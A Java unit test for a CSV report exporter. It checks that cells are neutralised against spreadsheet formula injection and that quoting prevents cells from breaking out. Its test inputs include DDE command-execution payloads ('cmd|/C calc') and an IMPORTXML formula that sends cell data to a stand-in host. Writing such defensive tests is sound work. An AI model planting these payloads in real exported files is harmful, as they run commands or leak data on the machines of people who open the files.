package org.huiyin.intake.web;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.List;
import org.huiyin.intake.job.RunReport;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** A report that a spreadsheet opens runs nothing in it. */
class ReportTableTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=cmd|'/C calc'!A0",
                "+1+cmd|'/C calc'!A0",
                "-2+3+cmd|'/C calc'!A0",
                "@SUM(1+1)*cmd|'/C calc'!A0",
                "\t=1+1",
                "\r=1+1",
                "\n=1+1",
                " =1+1",
                "\u3000＝1+1",
                "\uFEFF=1+1",
                "\u200b=1+1",
                "＝HYPERLINK(\"http://x.example\")",
                "＠SUM(1)",
                "－1",
                "=IMPORTXML(CONCAT(\"http://x.example/\",A1),\"//a\")"
            })
    void noCellBeginsAFormula(String cell) {
        assertThat(ReportTable.inert(cell)).isEqualTo("'" + cell);
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "欠薪", "a=b", "1", "'quoted", "第 3 行 -1"})
    void otherCellsStayAsTheyAre(String cell) {
        assertThat(ReportTable.inert(cell)).isEqualTo(cell);
    }

    /** A spreadsheet that parts cells by another mark sees one cell all the same. */
    @ParameterizedTest
    @ValueSource(strings = {"a;=1+1", "a\t=1+1", "a\",=1+1", "a\n=1+1"})
    void noCellBreaksOutOfItsQuotes(String reason) {
        String table = new String(ReportTable.of(report(reason)), StandardCharsets.UTF_8);

        assertThat(table)
                .startsWith("\uFEFF\"line\",\"field\",\"reason\"")
                .contains("\"7\",\"title\",\"" + reason.replace("\"", "\"\"") + "\"");
    }

    private static RunReport report(String reason) {
        return new RunReport(1, 0, 0, 1, List.of(new RunReport.Problem(7, "title", reason)));
    }
}
